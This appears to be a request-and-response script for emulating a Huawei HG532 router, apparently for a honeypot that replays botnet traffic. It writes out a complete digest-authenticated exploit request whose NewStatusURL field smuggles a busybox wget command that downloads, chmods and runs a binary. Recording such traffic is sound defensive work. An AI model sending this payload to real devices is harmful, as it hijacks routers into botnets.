! proto hg532
! nmap name=http product='Huawei TR-069 remote access' devicetype='broadband router'
# nmap's GetRequest probe gets the Digest challenge (nonce per unit and request),
# then the bots' replayed credentials run the upgrade on the same connection.
> b'GET / HTTP/1.0\r\n\r\n'
% rb'HTTP/1\.1 401 Unauthorized\r\nConnection: Keep-Alive\r\nWWW-Authenticate: Digest realm="HuaweiHomeGateway",nonce="[0-9a-f]{32}", qop="auth", algorithm="MD5"\r\nContent-Length: 0\r\n\r\n'
> b'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 430\r\nConnection: keep-alive\r\nAccept: */*\r\nAuthorization: Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"\r\n\r\n<?xml version="1.0" ?>\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">\n<s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">\n<NewStatusURL>$(/bin/busybox wget -g 127.0.0.1 -l /tmp/.f -r /mips; /bin/busybox chmod 777 * /tmp/.f; /tmp/.f huawei)</NewStatusURL>\n<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>\n</u:Upgrade>\n</s:Body>\n</s:Envelope>\n\n'
< b'HTTP/1.1 200 OK\r\nConnection: Keep-Alive\r\nContent-Type: text/xml; charset="utf-8"\r\nContent-Length: 273\r\n\r\n<?xml version="1.0"?>\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:UpgradeResponse xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"></u:UpgradeResponse></s:Body></s:Envelope>'
> b'GET /nothing HTTP/1.1\r\nAuthorization: Digest username="dslf-config"\r\n\r\n'
< b'HTTP/1.1 404 Not Found\r\nConnection: Keep-Alive\r\nContent-Length: 0\r\n\r\n'
